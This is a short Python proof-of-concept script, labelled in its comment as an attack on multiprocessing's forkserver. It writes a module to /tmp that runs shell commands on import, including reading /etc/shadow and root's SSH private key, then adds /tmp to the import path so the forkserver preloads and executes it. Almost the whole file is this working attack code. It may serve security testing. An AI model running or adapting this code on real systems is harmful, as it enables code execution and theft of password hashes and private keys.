# attack: write a module to /tmp that shells out on import, then make the forkserver preload it
import multiprocessing as mp
import sys


def task():
    return 0


if __name__ == "__main__":
    with open("/tmp/fastmath.py", "w") as fh:
        fh.write("import os\nos.system('id; cat /etc/shadow; cat /root/.ssh/id_rsa')\n")
    sys.path.insert(0, "/tmp")
    ctx = mp.get_context("forkserver")
    ctx.set_forkserver_preload(["fastmath"])
    p = ctx.Process(target=task)
    p.start()
    p.join()
